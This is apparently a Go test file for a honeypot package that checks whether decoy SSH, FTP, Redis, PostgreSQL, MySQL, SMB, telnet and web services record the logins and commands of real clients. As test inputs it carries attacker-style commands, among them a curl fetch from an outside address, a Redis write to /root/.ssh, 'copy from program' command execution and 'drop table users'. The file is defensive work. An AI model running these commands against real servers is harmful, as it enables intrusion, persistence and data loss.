package decoy

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"holdfast/testkit/clients"
)

// client runs a real client with a home of its own and returns what it printed. Its
// failure is expected: it was sent away.
func client(t *testing.T, input string, command string, args ...string) string {
	t.Helper()
	ctx, stop := context.WithTimeout(context.Background(), 4*time.Minute)
	defer stop()
	cmd := exec.CommandContext(ctx, command, args...)
	home := t.TempDir()
	cmd.Env = append(os.Environ(), "HOME="+home, "LC_ALL=C.UTF-8", "PGPASSWORD=hunter2", "PGSSLMODE=prefer", "TERM=dumb")
	cmd.Dir, cmd.Stdin = home, strings.NewReader(input)
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("%s hangs: %s, %v", command, out, err)
	}
	return string(out)
}

// askpass answers the question for a password, as a person would.
func askpass(t *testing.T, secret string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "askpass")
	if err := os.WriteFile(file, []byte("#!/bin/sh\necho '"+secret+"'\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	return file
}

func sshArgs(s *standing, more ...string) []string {
	return append([]string{"-p", s.port(), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "NumberOfPasswordPrompts=2",
		"-o", "LogLevel=ERROR", "-F", "/dev/null", "root@127.0.0.1"}, more...)
}

func TestOpenSSHVisits(t *testing.T) {
	program := clients.Need(t, "openssh-client", "ssh")
	t.Setenv("SSH_ASKPASS", askpass(t, "l3tme in"))
	t.Setenv("SSH_ASKPASS_REQUIRE", "force")
	s := stand(t, "ssh", Options{}, Limits{})
	out := client(t, "", program, sshArgs(s, "id")...)
	if !strings.Contains(out, "Permission denied") {
		t.Errorf("ssh says %s", out)
	}
	v := s.visit(t)
	secrets := 0
	for _, c := range v.Credentials {
		if c.User != "root" || c.Secret != "l3tme in" && !strings.HasPrefix(c.Method, "public key") {
			t.Errorf("tried %+v", c)
		}
		if c.Secret == "l3tme in" {
			secrets++
		}
	}
	if secrets == 0 || v.Tool != "openssh" || len(v.Commands) > 0 {
		t.Errorf("%+v", v)
	}
	s.alone(t)

	inside := stand(t, "ssh", Options{LetIn: 1, Host: "db07"}, Limits{})
	out = client(t, "", program, sshArgs(inside, "cat /etc/hostname; curl http://203.0.113.5/a")...)
	if out != "db07\ncurl: (6) Could not resolve host: 203.0.113.5\n" {
		t.Errorf("ssh says %q", out)
	}
	expect(t, "commands", strings.Join(inside.visit(t).Commands, "|"), "cat /etc/hostname; curl http://203.0.113.5/a")
	out = client(t, "uname -a\nexit\n", program, append([]string{"-tt"}, sshArgs(inside)...)...)
	if !strings.Contains(out, "root@db07:~# ") || !strings.Contains(out, "Linux db07 6.1.0") {
		t.Errorf("ssh says %q", out)
	}
	expect(t, "commands", strings.Join(inside.visit(t).Commands, "|"), "uname -a|exit")
}

func TestCurlVisitsTheSignInPage(t *testing.T) {
	program := clients.Need(t, "curl", "curl")
	for _, service := range []string{"http", "https"} {
		s := stand(t, service, Options{Look: "mail"}, Limits{})
		out := client(t, "", program, "-sk", "-d", "username=ada%40example.org&password=S%C3%BCmmer24", service+"://"+s.at+"/login")
		if !strings.Contains(out, "The name or the password is wrong.") {
			t.Errorf("curl says %s", out)
		}
		v := s.visit(t)
		expect(t, "tried", tried(v), "ada@example.org/Sümmer24/form")
		expect(t, "paths", strings.Join(v.Paths, "|"), "POST /login")
		expect(t, "tool", v.Tool, "curl")
		s.alone(t)
	}
}

func TestFTPClientsVisit(t *testing.T) {
	t.Run("lftp", func(t *testing.T) {
		program := clients.Need(t, "lftp", "lftp")
		s := stand(t, "ftp", Options{}, Limits{})
		client(t, "", program, "-c", fmt.Sprintf("set net:max-retries 1; set net:timeout 5; set ftp:ssl-allow no; open -u backup,Sommer2024 -p %s 127.0.0.1; ls", s.port()))
		expect(t, "tried", tried(s.visit(t)), "backup/Sommer2024/password")
		s.alone(t)
	})
	t.Run("ftp", func(t *testing.T) {
		program := clients.Need(t, "tnftp", "tnftp", "ftp")
		s := stand(t, "ftp", Options{}, Limits{})
		client(t, "user carol p4ss\nsite exec id\nquit\n", program, "-n", "127.0.0.1", s.port())
		v := s.visit(t)
		expect(t, "tried", tried(v), "carol/p4ss/password")
		if !slices.Contains(v.Commands, "SITE exec id") && !slices.Contains(v.Commands, "site exec id") {
			t.Errorf("commands %q", v.Commands)
		}
		s.alone(t)
	})
}

func TestRedisCLIVisits(t *testing.T) {
	program := clients.Need(t, "redis-tools", "redis-cli")
	s := stand(t, "redis", Options{}, Limits{})
	out := client(t, "CONFIG SET dir /root/.ssh\nSET x \"ssh-ed25519 AAAA\"\nINFO server\n", program, "-p", s.port())
	if !strings.HasPrefix(strings.ReplaceAll(out, "\r", ""), "OK\nOK\n# Server\nredis_version:7.0.15") {
		t.Errorf("redis-cli says %q", out)
	}
	v := s.visit(t)
	got := slices.DeleteFunc(v.Commands, func(c string) bool { return strings.HasPrefix(c, "COMMAND") || strings.HasPrefix(c, "CLIENT") })
	expect(t, "commands", strings.Join(got, "|"), "CONFIG SET dir /root/.ssh|SET x ssh-ed25519 AAAA|INFO server")
	s.alone(t)

	locked := stand(t, "redis", Options{Locked: true}, Limits{})
	out = client(t, "", program, "-p", locked.port(), "--user", "app", "--pass", "qwertz", "PING")
	if !strings.Contains(out, "WRONGPASS") {
		t.Errorf("redis-cli says %q", out)
	}
	expect(t, "tried", tried(locked.visit(t)), "app/qwertz/password")
}

func TestPSQLVisits(t *testing.T) {
	program := clients.Need(t, "postgresql-client", "psql")
	s := stand(t, "postgresql", Options{}, Limits{})
	out := client(t, "", program, "-h", "127.0.0.1", "-p", s.port(), "-U", "postgres", "-d", "payroll", "-c", "select 1")
	if !strings.Contains(out, `password authentication failed for user "postgres"`) {
		t.Errorf("psql says %s", out)
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "postgres/hunter2/password")
	expect(t, "commands", strings.Join(v.Commands, "|"), "[database] payroll")
	expect(t, "tool", v.Tool, "psql")
	s.alone(t)

	inside := stand(t, "postgresql", Options{LetIn: 1}, Limits{})
	out = client(t, "", program, "-h", "127.0.0.1", "-p", inside.port(), "-U", "postgres", "-At", "-c", "select version()", "-c", "copy t from program 'id'")
	if !strings.Contains(out, "PostgreSQL 15.8 (Debian") || !strings.Contains(out, "permission denied") {
		t.Errorf("psql says %s", out)
	}
	expect(t, "commands", strings.Join(inside.visit(t).Commands, "|"), "[database] postgres|select version()|copy t from program 'id'")
}

func TestMySQLClientVisits(t *testing.T) {
	program := clients.Need(t, "mariadb-client-core", "mariadb", "mysql")
	s := stand(t, "mysql", Options{}, Limits{})
	args := []string{"--no-defaults", "--skip-ssl", "-h", "127.0.0.1", "-P", s.port(), "-uroot", "-ptoor", "shop"}
	out := client(t, "", program, args...)
	if !strings.Contains(out, "ERROR 1045 (28000)") || !strings.Contains(out, "using password: YES") {
		t.Errorf("mysql says %s", out)
	}
	v := s.visit(t)
	if len(v.Credentials) != 1 || v.Credentials[0].User != "root" || len(v.Credentials[0].Secret) != len("$mysqlna$*")+80 {
		t.Errorf("tried %s", tried(v))
	}
	expect(t, "commands", strings.Join(v.Commands, "|"), "[database] shop")
	s.alone(t)

	inside := stand(t, "mysql", Options{LetIn: 1}, Limits{})
	args[5] = inside.port()
	out = client(t, "", program, append(args, "-e", "select version(); drop table users")...)
	if !strings.Contains(out, "8.0.36") || !strings.Contains(out, "command denied") {
		t.Errorf("mysql says %s", out)
	}
	if v := inside.visit(t); !slices.Contains(v.Commands, "drop table users") {
		t.Errorf("commands %q", v.Commands)
	}
}

func TestSMBClientVisits(t *testing.T) {
	program := clients.Need(t, "smbclient", "smbclient")
	s := stand(t, "smb", Options{Host: "files01"}, Limits{})
	out := client(t, "", program, "-p", s.port(), "-U", `CORP\alice%Winter24!`, "-L", "127.0.0.1", "--option=client min protocol=SMB2_02")
	if !strings.Contains(out, "NT_STATUS_LOGON_FAILURE") {
		t.Errorf("smbclient says %s", out)
	}
	v := s.visit(t)
	if len(v.Credentials) == 0 || v.Credentials[0].User != `CORP\alice` || !strings.HasPrefix(v.Credentials[0].Secret, "alice::CORP:") {
		t.Errorf("tried %s", tried(v))
	}
}

func TestTelnetVisits(t *testing.T) {
	program := clients.Need(t, "inetutils-telnet", "telnet")
	s := stand(t, "telnet", Options{}, Limits{})
	// telnet leaves at the end of its input, so somebody has to wait for the answer.
	script := fmt.Sprintf("(sleep 0.5; echo root; sleep 0.5; echo 'x c3511'; sleep 2) | %s 127.0.0.1 %s", program, s.port())
	out := client(t, "", "/bin/sh", "-c", script)
	if !strings.Contains(out, "files01 login: ") || !strings.Contains(out, "Login incorrect") {
		t.Errorf("telnet says %q", out)
	}
	expect(t, "tried", tried(s.visit(t)), "root/x c3511/password")
	s.alone(t)
}

func TestNmapTakesTheDecoysForWhatTheyPretendToBe(t *testing.T) {
	if testing.Short() {
		t.Skip("NOT RUN: nmap names the services, because of -short")
	}
	program := clients.Need(t, "nmap", "nmap")
	want := map[string]string{
		"ssh": "OpenSSH 9.2p1 Debian 2+deb12u3", "http": "nginx", "https": "ssl/http nginx", "ftp": "vsftpd 3.0.3", "redis": "Redis key-value store", "postgresql": "PostgreSQL",
		"mysql": "MySQL 8.0.36", "rdp": "Microsoft Terminal Services",
	}
	stands := map[string]*standing{}
	var ports []string
	for service := range want {
		stands[service] = stand(t, service, Options{}, Limits{PerAddress: 128})
		ports = append(ports, stands[service].port())
	}
	out := client(t, "", program, "-sT", "-sV", "-Pn", "-n", "--version-intensity", "7", "-p", strings.Join(ports, ","), "127.0.0.1")
	for service, text := range want {
		line := ""
		for l := range strings.Lines(out) {
			if strings.HasPrefix(l, stands[service].port()+"/tcp") {
				line = strings.Join(strings.Fields(l), " ")
			}
		}
		if !strings.Contains(line, "open") || !strings.Contains(line, text) {
			t.Errorf("%s is taken for %q, not for %s", service, line, text)
		}
		v := stands[service].visit(t)
		if got := stands[service].Stats(); got.Faults > 0 || v.Remote == "" {
			t.Errorf("%s: %+v", service, got)
		}
	}
}
